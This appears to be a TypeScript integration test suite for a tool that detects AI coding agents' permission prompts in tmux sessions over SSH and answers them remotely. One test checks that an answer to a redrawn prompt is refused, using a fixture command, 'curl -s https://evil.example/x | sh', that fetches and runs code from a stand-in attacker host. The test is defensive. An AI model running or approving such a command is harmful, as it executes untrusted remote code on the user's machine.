// "Needs you" against a real sshd and tmux, with nothing installed on the server: programs that draw real-looking
// prompts (test/fixtures/prompts) in sessions no tab shows; the item appears, a quick answer types exactly the
// choice's key once, the item goes, and a second answer types nothing. A log that scrolls past a [y/N] raises
// nothing; a bell in a background session raises an attention event; a pane in view raises none. A prompt redrawn
// with another command after it was listed gets no key; two profiles of the same server list its pane once; a
// dropped link keeps the items (not current) with their times; answers and prompts go into the Timeline.
import { existsSync, mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { copyPromptFixtures } from '../../../test/harness/promptFixtures';
import { startSshd, type TestSshd } from '../../../test/harness/sshd';
import type { NeedsItem } from '../../shared/model';
import { createWebCore } from '../compose';
import type { HoldfastCore } from '../service';
import { TestClient, waitFor } from '../testing';

let server: TestSshd;
let dataDir: string;
let fixtures: string;
let core: HoldfastCore;
let view: TestClient;
let hostId: string;

const tmux = (command: string) => server.runAsUser(`tmux ${command}`);
const latestItems = (): NeedsItem[] => view.events('needs.changed').at(-1)?.items ?? [];

beforeAll(async () => {
  server = await startSshd();
  server.runAsUser('tmux kill-server 2>/dev/null; true');
  // The fixture programs, where the test user can run them.
  fixtures = copyPromptFixtures();
  dataDir = mkdtempSync(join(tmpdir(), 'hf-needs-'));
  core = createWebCore({ dataDir, version: 'test', homeDir: dataDir, knownHostsFiles: [], quietMs: 3000 });
  view = new TestClient(core);
  const profile = await view.call('hosts.save', { name: 'agents', host: server.host, port: server.port, user: server.user, privateKeyPath: server.clientKeyPath });
  hostId = profile.id;
  await view.call('sessions.list', { hostId });
});

afterAll(async () => {
  core?.dispose();
  rmSync(dataDir, { recursive: true, force: true });
  rmSync(fixtures, { recursive: true, force: true });
  server?.runAsUser('tmux kill-server 2>/dev/null; true');
  await server?.dispose();
});

describe('Needs you', () => {
  it('says at once when a session is made, renamed or ended on the server, so that lists on screen follow', async () => {
    // The watch has seen the host's list (a needs.changed follows every list).
    await waitFor(() => view.events('needs.changed').length > 0, 'the first list');
    const changes = () => view.events('sessions.changed').filter((e) => e.hostId === hostId).length;
    const made = changes();
    tmux('new-session -d -s elsewhere-made');
    await waitFor(() => changes() > made, 'sessions.changed for a new session', 10_000);
    const renamed = changes();
    tmux(`rename-session -t '=elsewhere-made' elsewhere-renamed`);
    await waitFor(() => changes() > renamed, 'sessions.changed for a rename', 10_000);
    const ended = changes();
    tmux(`kill-session -t '=elsewhere-renamed'`);
    await waitFor(() => changes() > ended, 'sessions.changed for an end', 10_000);
  }, 40_000);

  it('lists a waiting prompt of a session no tab shows, answers it with exactly the chosen key once, and drops it', async () => {
    tmux(`new-session -d -s agent-one -x 100 -y 30 ${join(fixtures, 'claude-permission.sh')}`);
    const item = await waitFor(() => latestItems().find((i) => i.sessionName === 'agent-one'), 'the prompt in the list', 20_000);
    expect(item).toMatchObject({ hostName: 'agents', pattern: 'claude-permission', question: 'Do you want to make this edit to app.py?' });
    expect(item.choices.map((c) => c.label)).toEqual(['Yes', "Yes, and don't ask again this session", 'No, and tell Claude what to do differently']);
    expect(item.since).toBeLessThanOrEqual(Date.now());
    // The attention event that a desktop notification is made from.
    expect(view.events('attention').some((a) => a.kind === 'waiting' && a.sessionName === 'agent-one' && a.title.includes('needs you'))).toBe(true);

    await view.call('needs.answer', { itemId: item.id, choice: 1, fingerprint: item.fingerprint });
    await waitFor(() => tmux(`capture-pane -p -t '=agent-one:'`).includes('received: [2]'), 'the program to get the key');
    // Out of the list at once, and it stays out (the prompt is gone from the screen).
    expect(latestItems().some((i) => i.id === item.id)).toBe(false);
    // A second click types nothing.
    await expect(view.call('needs.answer', { itemId: item.id, choice: 1, fingerprint: item.fingerprint })).rejects.toMatchObject({ code: 'NOT_FOUND' });
    // What the program got after the answer: only the marker typed now, nothing before it.
    tmux(`send-keys -t '=agent-one:' z Enter`);
    await waitFor(() => tmux(`capture-pane -p -t '=agent-one:'`).includes('also received: [z]'), 'the marker key');
    expect(/also received: \[(.*)\]/.exec(tmux(`capture-pane -p -t '=agent-one:'`))?.[1]).toBe('z');
    expect(latestItems().some((i) => i.sessionName === 'agent-one')).toBe(false);
    tmux(`kill-session -t '=agent-one'`);
  }, 60_000);

  it('refuses an answer when the prompt changed since it was shown, and types nothing', async () => {
    tmux(`new-session -d -s agent-two -x 100 -y 30 ${join(fixtures, 'codex-approval.sh')}`);
    const item = await waitFor(() => latestItems().find((i) => i.sessionName === 'agent-two'), 'the prompt in the list', 20_000);
    expect(item.pattern).toBe('codex-approval');
    await expect(view.call('needs.answer', { itemId: item.id, choice: 0, fingerprint: 'deadbeef' })).rejects.toMatchObject({ code: 'STALE' });
    expect(tmux(`capture-pane -p -t '=agent-two:'`)).not.toContain('received');
    // Answered elsewhere (typed in tmux by someone else): the item goes by itself.
    const answeredAt = Date.now();
    tmux(`send-keys -t '=agent-two:' 3`);
    await waitFor(() => !latestItems().some((i) => i.id === item.id), 'the item to go once the prompt is answered elsewhere', 20_000);
    // Measured, not asserted (a loaded machine may be slower): how long the item outlived its prompt.
    console.log(`needs: the item went ${Date.now() - answeredAt} ms after the prompt was answered in tmux`);
    expect(tmux(`capture-pane -p -t '=agent-two:'`)).toContain('received: [3]');
    tmux(`kill-session -t '=agent-two'`);
  }, 60_000);

  it('types nothing into a prompt redrawn with another command after it was listed, and lists the new one', async () => {
    // Where the test user may make it.
    const trigger = `/tmp/hf-redraw-${process.pid}`;
    server.runAsUser(`rm -f ${trigger}`);
    tmux(`new-session -d -s agent-redraw -x 100 -y 30 '${join(fixtures, 'claude-redraw.sh')} ${trigger}'`);
    const item = await waitFor(() => latestItems().find((i) => i.sessionName === 'agent-redraw'), 'the prompt in the list', 20_000);
    expect(item.lines.join('\n')).toContain('npm test');
    // The program draws the same question over another command; the test answers what it was shown before.
    server.runAsUser(`touch ${trigger}`);
    await waitFor(() => tmux(`capture-pane -p -t '=agent-redraw:'`).includes('evil.example'), 'the prompt drawn again');
    // Whether the list has caught up yet (the item went: NOT_FOUND) or not (the pane is read again: STALE), no key goes.
    const refused = await view.call('needs.answer', { itemId: item.id, choice: 0, fingerprint: item.fingerprint }).then(
      () => undefined,
      (err: { code?: string }) => err.code,
    );
    expect(['STALE', 'NOT_FOUND']).toContain(refused);
    console.log(`needs: the answer to the redrawn prompt was refused with ${refused}`);
    const updated = await waitFor(() => latestItems().find((i) => i.sessionName === 'agent-redraw' && i.fingerprint !== item.fingerprint), 'the item to show the new prompt', 20_000);
    expect(updated.lines.join('\n')).toContain('curl -s https://evil.example/x | sh');
    expect(tmux(`capture-pane -p -t '=agent-redraw:'`)).not.toContain('received');
    // The first key the program gets is a marker typed now.
    tmux(`send-keys -t '=agent-redraw:' z`);
    await waitFor(() => tmux(`capture-pane -p -t '=agent-redraw:'`).includes('received: [z]'), 'the marker key');
    tmux(`kill-session -t '=agent-redraw'`);
    server.runAsUser(`rm -f ${trigger}`);
  }, 60_000);

  it('records each answer (prompt, choice, device, when) and each prompt that waited in the Timeline, and in a file', async () => {
    const phone = new TestClient(core, { info: { kind: 'device', label: 'Ada’s phone', deviceId: 'd1' } });
    tmux(`new-session -d -s agent-record -x 100 -y 30 ${join(fixtures, 'claude-permission.sh')}`);
    const item = await waitFor(() => latestItems().find((i) => i.sessionName === 'agent-record'), 'the prompt in the list', 20_000);
    await phone.call('needs.answer', { itemId: item.id, choice: 0, fingerprint: item.fingerprint });
    await waitFor(() => tmux(`capture-pane -p -t '=agent-record:'`).includes('received: [1]'), 'the key');
    const { entries } = await waitFor(async () => {
      const list = await view.call('timeline.list', { hostId });
      return list.entries.some((e) => e.kind === 'prompt' && e.sessionName === 'agent-record') ? list : undefined;
    }, 'the prompt in the Timeline', 20_000);
    const answer = entries.find((e) => e.kind === 'answer' && e.sessionName === 'agent-record');
    expect(answer).toMatchObject({ choice: 'Yes', device: { kind: 'device', label: 'Ada’s phone' }, itemId: item.id, prompt: item.lines, question: item.question });
    expect(entries.find((e) => e.kind === 'prompt' && e.sessionName === 'agent-record')).toMatchObject({ outcome: 'answered', began: item.since, prompt: item.lines });
    // Newest first: the prompt ended after the answer was given.
    expect(entries.findIndex((e) => e.kind === 'prompt' && e.sessionName === 'agent-record')).toBeLessThan(entries.indexOf(answer!));
    expect(view.events('timeline.added').some((e) => e.entries.some((x) => x.kind === 'answer' && x.sessionName === 'agent-record'))).toBe(true);
    // Kept on the computer, as JSON Lines, and exported the same way.
    const file = join(dataDir, 'timeline.jsonl');
    expect(existsSync(file)).toBe(true);
    expect(readFileSync(file, 'utf8')).toContain('"choice":"Yes"');
    const { text } = await view.call('timeline.export', {});
    expect(text.trim().split('\n').map((l) => JSON.parse(l) as { kind: string }).some((e) => e.kind === 'answer')).toBe(true);
    // The session's waiting time today counts the prompt.
    const mark = await waitFor(() => view.events('needs.changed').at(-1)?.marks.find((m) => m.hostId === hostId && m.sessionId === item.sessionId && m.waitedTodayMs > 0), 'the waiting time today');
    expect(mark.waitedTodayMs).toBeGreaterThan(0);
    phone.dispose();
    tmux(`kill-session -t '=agent-record'`);
  }, 60_000);

  it('lists a waiting pane once when two profiles point at the same server', async () => {
    const second = await view.call('hosts.save', { name: 'agents-again', host: server.host, port: server.port, user: server.user, privateKeyPath: server.clientKeyPath });
    await view.call('sessions.list', { hostId: second.id });
    tmux(`new-session -d -s agent-twice -x 100 -y 30 ${join(fixtures, 'claude-permission.sh')}`);
    // Both profiles' watches have read it: each marks the session as waiting.
    await waitFor(() => {
      const marks = view.events('needs.changed').at(-1)?.marks ?? [];
      const waiting = marks.filter((m) => m.waiting && latestItems().some((i) => i.sessionName === 'agent-twice' && i.sessionId === m.sessionId));
      return new Set(waiting.map((m) => m.hostId)).size === 2;
    }, 'both profiles to see the prompt', 20_000);
    expect(latestItems().filter((i) => i.sessionName === 'agent-twice')).toHaveLength(1);
    tmux(`kill-session -t '=agent-twice'`);
    await view.call('hosts.delete', { hostId: second.id });
  }, 60_000);

  it('keeps the items while the link is down, marked not current, with their times, and the same item once back', async () => {
    tmux(`new-session -d -s agent-outage -x 100 -y 30 ${join(fixtures, 'codex-approval.sh')}`);
    // A tab keeps the host connected, so that it reconnects after the drop.
    tmux(`new-session -d -s keep-link -x 80 -y 24`);
    const pane = await view.open({ hostId, sessionName: 'keep-link', cols: 80, rows: 24 });
    const item = await waitFor(() => latestItems().find((i) => i.sessionName === 'agent-outage'), 'the prompt in the list', 20_000);
    expect(item.current).toBe(true);
    const seq = view.seq;
    server.dropConnections();
    const kept = await waitFor(() => latestItems().find((i) => i.id === item.id && !i.current), 'the item kept, not current', 20_000);
    expect(kept).toMatchObject({ since: item.since, fingerprint: item.fingerprint });
    const back = await waitFor(() => latestItems().find((i) => i.id === item.id && i.current), 'the item current again', 30_000);
    expect(back.since).toBe(item.since);
    expect(view.records.filter((r) => r.seq >= seq && r.kind === 'event' && r.event.name === 'needs.changed').every((r) => r.kind === 'event' && r.event.name === 'needs.changed' && r.event.payload.items.some((i) => i.id === item.id))).toBe(true);
    await view.call('panes.close', { paneId: pane.paneId });
    tmux(`kill-session -t '=agent-outage'`);
    tmux(`kill-session -t '=keep-link'`);
  }, 90_000);

  it('raises nothing for a log that scrolls past a [y/N]', async () => {
    tmux(`new-session -d -s build-log -x 100 -y 30 ${join(fixtures, 'scrolling-log.sh')}`);
    await waitFor(() => tmux(`capture-pane -p -t '=build-log:'`).includes('all done'), 'the log to finish');
    // A prompt that starts after the log stopped is read after it: once it is listed, the log has been read too.
    tmux(`new-session -d -s after-log -x 100 -y 30 ${join(fixtures, 'codex-approval.sh')}`);
    await waitFor(() => latestItems().some((i) => i.sessionName === 'after-log'), 'the later prompt in the list', 20_000);
    expect(latestItems().some((i) => i.sessionName === 'build-log')).toBe(false);
    tmux(`kill-session -t '=build-log'`);
    tmux(`kill-session -t '=after-log'`);
  }, 60_000);

  it('raises an attention event for a bell in a background session, and none for a pane in view', async () => {
    tmux(`new-session -d -s bell-bg -x 80 -y 24 \\; new-window -d -t '=bell-bg:'`);
    // A bell in the window that is not current: tmux flags it.
    tmux(`send-keys -t '=bell-bg:1' "sleep 1; printf '\\\\a'" Enter`);
    await waitFor(() => view.events('attention').some((a) => a.kind === 'bell' && a.sessionName === 'bell-bg'), 'the bell as attention', 20_000);
    const marks = view.events('needs.changed').at(-1)!.marks;
    expect(marks.find((m) => m.hostId === hostId && m.sessionId === tmux(`display -p -t '=bell-bg:' '#{session_id}'`).trim())).toMatchObject({ bell: true });

    // A session open in a view that shows it: its bell goes to the terminal, not to a notification.
    tmux(`new-session -d -s bell-fg -x 80 -y 24`);
    const pane = await view.open({ hostId, sessionName: 'bell-fg', cols: 80, rows: 24 });
    const before = view.events('attention').length;
    view.write(pane.paneId, "printf 'x\\a'; echo rang\r");
    await waitFor(() => tmux(`capture-pane -p -t '=bell-fg:'`).includes('rang'), 'the bell to ring');
    // Then a bell in the background: once its attention is here, the one in view would have come before it.
    tmux(`new-session -d -s bell-bg2 -x 80 -y 24 \\; new-window -d -t '=bell-bg2:'`);
    tmux(`send-keys -t '=bell-bg2:1' "sleep 1; printf '\\a'" Enter`);
    await waitFor(() => view.events('attention').slice(before).some((a) => a.kind === 'bell' && a.sessionName === 'bell-bg2'), 'the second background bell', 20_000);
    expect(view.events('attention').slice(before).filter((a) => a.sessionName === 'bell-fg')).toEqual([]);
    await view.call('panes.close', { paneId: pane.paneId });
    tmux(`kill-session -t '=bell-bg'`);
    tmux(`kill-session -t '=bell-fg'`);
    tmux(`kill-session -t '=bell-bg2'`);
  }, 60_000);

  it('says when a watched session goes quiet after activity', async () => {
    await view.call('settings.save', { sessionAlerts: { [`${hostId}/quiet-job`]: 'watch' } });
    tmux(`new-session -d -s quiet-job -x 80 -y 24 'for i in 1 2 3 4 5; do echo working $i; sleep 0.5; done; exec sleep 600'`);
    await waitFor(() => view.events('attention').some((a) => a.kind === 'quiet' && a.sessionName === 'quiet-job'), 'the quiet notice', 30_000);
    tmux(`kill-session -t '=quiet-job'`);
  }, 60_000);
});
